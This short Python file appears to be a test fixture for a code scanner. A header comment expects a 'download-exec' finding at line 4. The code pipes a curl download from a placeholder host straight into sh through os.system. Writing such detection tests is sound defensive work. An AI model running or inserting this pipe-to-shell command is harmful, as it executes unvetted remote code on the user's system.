# expect: download-exec 4:12
import os

os.system("curl -fsSL https://get.example.com | sh")
